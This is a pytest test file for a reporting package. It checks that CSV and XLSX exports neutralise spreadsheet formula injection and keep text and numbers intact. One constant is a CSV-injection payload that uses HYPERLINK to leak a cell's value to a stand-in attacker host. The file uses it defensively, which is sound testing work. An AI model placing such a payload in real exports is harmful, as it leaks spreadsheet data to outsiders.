"""Exported cells never start a formula: CSV injection (`=HYPERLINK(...)`) is neutralised."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook
from uponyaji_reporting.spreadsheet import neutral
from uponyaji_reporting.views import csv_text, rows
from uponyaji_reporting.xlsx import workbook

EVIL = '=HYPERLINK("http://attacker/?leak="&A1,"Click")'  # no dot: labels split at dots
BOARD = {"by_county": {EVIL: 7, "047": 12}, "cases": {"open": -3}}


def test_csv_cells_that_would_run_a_formula_are_text() -> None:
    table = list(csv.reader(io.StringIO(csv_text(BOARD))))
    labels = [row[1] for row in table]
    assert "'" + EVIL in labels
    assert EVIL not in labels
    assert ["cases", "open", "-3"] in table  # a negative number is a number, not a formula


def test_xlsx_cells_that_would_run_a_formula_are_text() -> None:
    data = workbook(rows(BOARD), {"period": "2026"})
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    cells = [
        c.value for row in load_workbook(io.BytesIO(data))["dashboard"].iter_rows() for c in row
    ]
    assert "'" + EVIL in cells
    assert EVIL not in cells
    assert -3 in cells  # a negative number stays a number


# (what is exported, what the spreadsheet cell holds: text, formula starts neutralised)
TRICKY = [
    ("047", "047"),
    ("1_000", "1_000"),
    ("-inf", "'-inf"),
    ("Infinity", "Infinity"),
    ("nan", "nan"),
    ("1e5", "1e5"),
    (" 12", " 12"),
    ("2026-03", "2026-03"),
    ("Murang'a", "Murang'a"),
    ("bell\x07", "bell\ufffd"),
    ("nul\x00", "nul\ufffd"),
    ("=1+1", "'=1+1"),
]


def test_xlsx_keeps_text_as_text_and_numbers_as_numbers() -> None:
    board = {
        "t": {f"r{n}": value for n, (value, _) in enumerate(TRICKY)},
        "n": {"int": 47, "f": 2.5},
    }
    book = load_workbook(io.BytesIO(workbook(rows(board), {"county": "047"})))
    read = {r: v for _, r, v in book["dashboard"].iter_rows(min_row=2, values_only=True)}
    for n, (value, held) in enumerate(TRICKY):
        assert read[f"r{n}"] == held, value  # a string: never turned into a number
    assert read["int"] == 47
    assert read["f"] == 2.5
    assert book["about"]["B2"].value == "047"
    assert book["about"]["A1"].value == "disclosure control"


@pytest.mark.parametrize("value", ["=1+1", "+SUM(A1)", "-2+3", "@cmd", "\tx", "\rx"])
def test_every_formula_start_is_neutralised(value: str) -> None:
    assert neutral(value) == "'" + value


@pytest.mark.parametrize("value", ["Nairobi", "<5", "-3", "-0.5", "12", ""])
def test_ordinary_cells_are_unchanged(value: str) -> None:
    assert neutral(value) == value
